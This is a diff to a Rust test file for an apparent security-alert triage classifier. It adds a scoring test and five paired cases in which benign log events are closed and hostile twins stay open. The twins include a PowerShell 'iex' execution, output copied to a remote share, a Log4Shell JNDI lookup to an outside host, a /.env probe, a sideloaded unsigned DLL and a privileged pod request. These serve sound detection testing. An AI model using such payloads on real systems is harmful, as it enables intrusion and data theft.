@@ -58,6 +58,13 @@ fn it_does_so_on_alerts_that_were_written_without_a_look_at_the_table() {
     assert!(scored(&alerts) > 0.80);
 }
 
+#[test]
+fn it_closes_everyday_work_and_no_serious_attack() {
+    let alerts = fixtures::labelled_in("labelled_everyday.jsonl");
+    assert!(alerts.len() >= 150);
+    assert!(scored(&alerts) > 0.85);
+}
+
 // Macro-F1; fails where a serious attack is closed.
 fn scored(alerts: &[Labelled]) -> f64 {
     let pairs = judged(alerts);
@@ -171,7 +178,7 @@ const BROWSER: &str = r"C:\Program Files\Mozilla Firefox\firefox.exe";
 #[expect(clippy::too_many_lines, reason = "a table of pairs")]
 fn everyday_work_is_closed_and_its_twin_that_is_none_stays_open() {
     type Fields<'a> = &'a [(&'a str, &'a str)];
-    let cases: [(&str, Fields<'_>, Fields<'_>); 12] = [
+    let cases: [(&str, Fields<'_>, Fields<'_>); 17] = [
         (
             "windows sysmon",
             &[(EVENT, "1"), (COMMAND, PANEL), (IMAGE, RUNDLL), (PARENT, EXPLORER)],
@@ -316,6 +323,65 @@ fn everyday_work_is_closed_and_its_twin_that_is_none_stays_open() {
             &[
                 ("data.win.eventdata.param4", "WinDefend"),
                 ("data.win.eventdata.param3", "disabled"),
+            ],
+        ),
+        (
+            "windows powershell",
+            &[
+                (EVENT, "1"),
+                (
+                    COMMAND,
+                    "powershell -NoProfile -Command Get-HotFix | Select-Object HotFixID",
+                ),
+            ],
+            &[
+                (COMMAND, "powershell -NoProfile -Command Get-HotFix; iex $x"),
+                (COMMAND, "powershell -NoProfile -Command Get-HotFix | Out-File //srv/x"),
+            ],
+        ),
+        (
+            "windows sysmon",
+            &[
+                (EVENT, "7"),
+                (IMAGE, BROWSER),
+                ("data.win.eventdata.imageLoaded", r"C:\\Windows\\System32\\taskschd.dll"),
+                ("data.win.eventdata.signed", "true"),
+            ],
+            &[
+                ("data.win.eventdata.imageLoaded", r"C:\\Users\\e\\taskschd.dll"),
+                ("data.win.eventdata.signed", "false"),
+            ],
+        ),
+        (
+            "audit audit_command",
+            &[
+                ("data.audit.auid", "1001"),
+                ("data.audit.execve.a0", "git"),
+                ("data.audit.execve.a1", "pull"),
+            ],
+            &[("data.audit.auid", "4294967295"), ("data.audit.execve.a1", "config")],
+        ),
+        (
+            "web accesslog",
+            &[("data.url", "/robots.txt"), ("data.id", "404")],
+            &[
+                ("data.url", "/.env"),
+                ("data.url", "/robots.txt?x=${jndi:ldap://203.0.113.9/a}"),
+            ],
+        ),
+        (
+            "k8s_audit",
+            &[
+                (
+                    "data.user.username",
+                    "system:serviceaccount:kube-system:replicaset-controller",
+                ),
+                ("data.verb", "create"),
+                ("data.objectRef.resource", "pods"),
+            ],
+            &[
+                ("data.user.username", "dev-bot"),
+                ("data.requestObject.spec.containers.securityContext.privileged", "true"),
             ],
         ),
     ];
